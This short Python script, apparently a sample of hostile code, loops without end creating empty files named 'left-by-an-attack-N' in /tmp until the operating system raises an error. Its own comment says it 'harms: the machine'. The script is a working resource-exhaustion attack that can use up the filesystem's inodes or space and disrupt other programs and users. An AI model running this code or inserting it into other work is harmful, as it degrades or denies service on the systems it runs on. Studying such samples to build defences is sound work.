"""Makes as many empty files as it can."""
# harms: the machine

number = 0
try:
    while True:
        open(f"/tmp/left-by-an-attack-{number}", "w").close()
        number += 1
except OSError as error:
    print(error)
